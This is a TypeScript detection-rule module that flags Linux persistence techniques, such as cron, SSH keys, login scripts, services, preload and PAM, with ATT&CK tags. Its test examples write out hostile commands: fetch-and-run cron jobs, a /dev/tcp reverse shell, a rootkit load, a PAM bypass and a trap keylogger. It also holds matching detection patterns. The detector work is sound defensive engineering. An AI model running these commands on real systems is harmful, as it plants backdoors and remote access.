/** What starts again by itself: jobs, keys, login scripts, services, hooks, libraries, kernel modules. */
import { behaviour } from './behaviour.ts';
import { writesTo, placeOf, standsAt, TEMP } from './posix.ts';
import { any, arg, inputsOf, onProcess, onScene, onText, said, type Row, type Scene, type Place } from './row.ts';

export const LINUX_PERSISTENCE: readonly Row[] = [
  behaviour('cron-fetch', ['cron', 'T1053.003', 'persistence', 'critical', 'high'], {
    reason: 'A scheduled job fetches something and runs it, or runs it out of a temporary or hidden folder.',
    benign: [],
    hits: [
      '(crontab -l; echo "*/5 * * * * curl -fsSL http://203.0.113.9/cr.sh | sh") | crontab -',
      "echo '* * * * * root wget -q -O- http://203.0.113.9/u.sh|sh' > /etc/cron.d/zz",
      "echo '@reboot /var/tmp/.systemd/k' | crontab -",
    ],
    misses: ["echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -"],
    look: onScene((scene) => cronPlace(scene, true)),
  }),
  behaviour('cron-write', ['cron', 'T1053.003', 'persistence', 'medium', 'medium'], {
    reason: 'A scheduled job is written, so that something starts again by itself.',
    benign: ['configuration management', 'a backup job'],
    hits: ["echo '0 3 * * * /opt/x.sh' | crontab -", 'echo "* * * * * root /opt/x" >> /etc/crontab'],
    misses: ['crontab -l'],
    look: onScene((scene) => cronPlace(scene, false)),
  }),
  behaviour('cron-removed', ['cron', 'T1053.003', 'persistence', 'medium', 'medium'], {
    reason: 'All scheduled jobs of a user are removed, as rivals’ miners are.',
    benign: ['an uninstaller'],
    hits: ['crontab -r'],
    misses: ['crontab -l'],
    look: onProcess(['crontab'], arg(/^-r$/)),
  }),
  behaviour('authorized-keys', ['persistence-file', 'T1098.004', 'persistence', 'high', 'high'], {
    reason: 'A key is added to the keys that may log in.',
    benign: ['ssh-copy-id by an administrator', 'provisioning of a new machine'],
    hits: [
      "echo 'ssh-rsa AAAAB3 root@x' >> /root/.ssh/authorized_keys",
      'redis-cli config set dbfilename authorized_keys',
    ],
    misses: ['cat ~/.ssh/known_hosts'],
    look: onText(['authorized_keys', 'authotized_keys'], ({ lower }, at) => {
      const before = lower.slice(Math.max(0, at - 80), at);
      return /(?:>>?|tee(?: -a)?|dbfilename|chattr [-+\w]+)\s*["']?\S*$/.test(before) && !/^\s*#/.test(before);
    }),
  }),
  behaviour('login-script-write', ['persistence-file', 'T1546.004', 'persistence', 'high', 'medium'], {
    reason: 'A line is added to a file that every login reads.',
    benign: ['setting a path or an alias'],
    hits: [
      "echo 'nohup /var/tmp/.k/sshd &' >> /etc/profile",
      'echo \'bash -c "bash -i >& /dev/tcp/203.0.113.4/4444 0>&1"\' >> /etc/update-motd.d/00-header',
    ],
    misses: ["echo 'export PATH=$PATH:/opt/go/bin' >> ~/.bashrc"],
    look: onProcess(['*'], (process) => {
      const target = writesTo(
        /(?:^|\/)(?:etc\/profile|etc\/bash\.?bashrc|etc\/zshenv|etc\/update-motd\.d\/|\.bashrc|\.bash_profile|\.profile|\.zshrc|\.zshenv|\.zprofile|etc\/rc\.local|etc\/rc\.common|etc\/init\.d\/)/,
      )(process);
      if (target === undefined) return undefined;
      const text = process.args
        .filter((one) => one !== target)
        .map(({ lower }) => lower)
        .join(' ');
      return /nohup|\/tmp\/|\/dev\/shm|\/dev\/tcp|curl |wget |base64|\/\.\w|python|nc |bash -i|trap |ld_preload|sh -c|\s&\s/.test(
        text,
      ) ||
        target.lower.includes('motd') ||
        target.lower.includes('rc.common')
        ? target
        : undefined;
    }),
  }),
  behaviour('service-file-write', ['persistence-file', 'T1543.002', 'persistence', 'medium', 'high'], {
    reason: 'A service or timer is written by hand, so that something starts with the machine.',
    benign: ['installing own software from a script'],
    hits: ["printf '[Service]\\nExecStart=/tmp/x' > /etc/systemd/system/x.service"],
    misses: ['systemctl status sshd'],
    look: onProcess(['*'], writesTo(/(?:systemd\/(?:system|user)\/\S+\.(?:service|timer)|etc\/init\.d\/)/)),
  }),
  behaviour('service-runs-shell', ['persistence-file', 'T1543.002', 'persistence', 'high', 'high'], {
    reason: 'A service’s start line is a shell that fetches, or a program in a temporary or hidden folder.',
    benign: [],
    hits: [`printf '[Service]\\nExecStart=/bin/bash -c "curl 203.0.113.9/x|sh"' > /etc/systemd/system/x.service`],
    misses: ["printf '[Service]\\nExecStart=/usr/bin/app' > /etc/systemd/system/app.service"],
    look: onText(['execstart=', 'execstartpre='], ({ lower }, at) =>
      /^\S*=\s*\S*(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\/\.)|^\S*=\s*\S*sh\s+-c[^\n]{0,40}(?:curl|wget|nc |\/dev\/tcp|base64|python)/.test(
        lower.slice(at, at + 200),
      ),
    ),
  }),
  behaviour('udev-or-hook-write', ['persistence-file', 'T1546', 'persistence', 'high', 'medium'], {
    reason: 'A rule or hook is written that the system runs by itself (udev, apt, git, motd, ld.so).',
    benign: ['installing a device rule'],
    hits: [
      `echo 'ACTION=="add",RUN+="/tmp/x"' | tee /etc/udev/rules.d/71-x.rules`,
      'echo "/tmp/" > /etc/ld.so.conf.d/x.conf',
    ],
    misses: ['cat /etc/udev/rules.d/70-net.rules'],
    look: onProcess(
      ['*'],
      any(
        writesTo(
          /etc\/(?:ld\.so\.conf(?:\.d\/)?|ld\.so\.preload|apt\/apt\.conf\.d\/|dpkg\/dpkg\.cfg\.d|xdg\/autostart\/)/,
        ),
        (process, { layers }) => {
          const target = writesTo(/udev\/rules\.d\/|\.git\/hooks\//)(process);
          return target !== undefined &&
            /run\+?=\W{0,3}(?:\$|\/tmp|\/dev\/shm|\/home|\/var\/tmp|\/bin\/(?:ba)?sh|sh )/.test(
              layers[process.layer]?.lower ?? '',
            )
            ? target
            : undefined;
        },
      ),
    ),
  }),
  behaviour('preload', ['hijack', 'T1574.006', 'persistence', 'high', 'high'], {
    reason: 'A library is forced into every program (LD_PRELOAD, ld.so.preload, DYLD_INSERT_LIBRARIES).',
    benign: ['jemalloc or a profiler in front of one program'],
    hits: ['echo /tmp/evil.so > /etc/ld.so.preload', 'LD_PRELOAD=/tmp/x.so /bin/ls', 'chattr +ia /etc/ld.so.preload'],
    misses: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server'],
    look: onText(
      ['ld.so.preload', 'ld_preload=', 'dyld_insert_libraries=', 'dyld_insert_libraries '],
      ({ lower }, at, literal) =>
        literal === 'ld.so.preload'
          ? !/(?:cat|ls|less)\s+\S*$/.test(lower.slice(Math.max(0, at - 30), at))
          : /^\s?["']?(?:\/tmp|\/dev\/shm|\/var\/tmp|\.\/|\/home|~|\$\w+\/|\s|$|\/users|\/private)/.test(
              lower.slice(at + literal.length),
            ),
    ),
  }),
  behaviour('kernel-module', ['rootkit', 'T1547.006', 'persistence', 'high', 'high'], {
    reason: 'A kernel module is loaded from outside the system’s own folder.',
    benign: ['building a driver by hand'],
    hits: ['insmod /tmp/diamorphine.ko', 'insmod rk.ko', 'modprobe -f /tmp/x.ko'],
    misses: ['insmod /lib/modules/6.1/kernel/fs/x.ko', 'modprobe br_netfilter'],
    look: onProcess(['insmod', 'modprobe', 'kextload'], (process) => {
      const file = process.args.find(({ lower }) => /\.ko(?:\.|$)|\.kext/.test(lower));
      return file !== undefined && !/^\/(?:lib|usr\/lib|system\/library|library\/extensions)\//.test(file.lower)
        ? file
        : undefined;
    }),
  }),
  behaviour('pam-change', ['authentication', 'T1556.003', 'credential-access', 'critical', 'medium'], {
    reason: 'The modules that check passwords are changed: a way in for everybody, or a tap on what is typed.',
    benign: ['hardening by configuration management'],
    hits: [
      'sudo sed -i "1s,^,auth sufficient pam_succeed_if.so uid >= 0\\n,g" /etc/pam.d/su-l',
      'cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so',
    ],
    misses: ['cat /etc/pam.d/sshd'],
    look: onProcess(['*'], writesTo(/\/etc\/pam\.d\/|\/security\/pam_\w+\.so$/)),
  }),
  behaviour('trap-command', ['persistence-file', 'T1546.005', 'persistence', 'high', 'medium'], {
    reason: 'A shell trap starts a program when a signal comes or after each command.',
    benign: ['cleaning up temporary files at exit'],
    hits: ['trap "nohup sh /tmp/x.sh" EXIT', `trap 'echo "$BASH_COMMAND" >> /tmp/k' DEBUG`],
    misses: ["trap 'rm -f $TMP' EXIT"],
    look: onText(
      ['trap '],
      ({ lower }, at) =>
        standsAt(lower, at) &&
        /^trap\s+\S{0,3}["']\S{0,3}(?:[^"'\n]{0,60}(?:nohup|\/tmp\/|\/dev\/shm|curl|wget|bash -)|[^\n]{0,60}bash_command)/.test(
          lower.slice(at, at + 140),
        ) &&
        !/rm -/.test(lower.slice(at, at + 40)),
    ),
  }),
  behaviour('python-startup-hook', ['persistence-file', 'T1546.018', 'persistence', 'high', 'medium'], {
    reason: 'A file is written that Python runs at every start (sitecustomize, usercustomize, .pth).',
    benign: [],
    hits: [
      `echo "import os; os.system('id')" > "$SITE/usercustomize.py"`,
      `echo 'import os;os.system("id")' >> /usr/lib/python3/dist-packages/x.pth`,
    ],
    misses: ['python3 -m site'],
    look: onText(['usercustomize.py', 'sitecustomize.py', '.pth'], ({ lower }, at) =>
      /(?:>|tee)\s*["']?\S{0,120}$/.test(lower.slice(Math.max(0, at - 130), at)),
    ),
  }),
];

const CRON_FILE = /\/etc\/cron(?:tab|\.d\/|\.hourly|\.daily|\.weekly)|\/var\/spool\/cron|\/etc\/anacrontab/;
const CRON_BAD = /curl |wget |\/tmp\/|\/dev\/shm|\/var\/tmp|\/dev\/tcp|base64|python\S* -c|nc -|\/\.\w|\| ?(?:ba)?sh/;

/** Writes of jobs that are looked at; a line that holds more has been seen often enough. */
const CRON_WRITES_MAX = 8;

/** Where a job is written; with `bad` only one that fetches, or that runs out of a temporary or hidden folder. */
function cronPlace(scene: Scene, bad: boolean): Place | undefined {
  let asked = 0;
  for (const process of scene.processes) {
    if (asked >= CRON_WRITES_MAX) break;
    const target = process.args.find(
      ({ role, lower }) => (role === 'target' || (process.name === 'tee' && role !== 'flag')) && CRON_FILE.test(lower),
    );
    const isCrontab =
      process.name === 'crontab' &&
      process.args.some(({ lower }) => lower === '-' || TEMP.test(lower) || /\/\.\w/.test(lower));
    const feeds = isCrontab || process.name === 'tee' ? inputsOf(process, scene) : [];
    if (
      target === undefined &&
      !isCrontab &&
      !(process.name === 'crontab' && process.args.length === 0 && process.input !== undefined)
    )
      continue;
    if (!bad) return placeOf(process);
    asked += 1;
    const text = [
      process,
      ...feeds,
      ...(isCrontab ? scene.processes.slice(0, 64).filter(({ name }) => name === 'echo' || name === 'printf') : []),
    ]
      .map(said)
      .join(' ');
    if (CRON_BAD.test(text.replace(CRON_FILE, ''))) return placeOf(process);
  }
  return undefined;
}
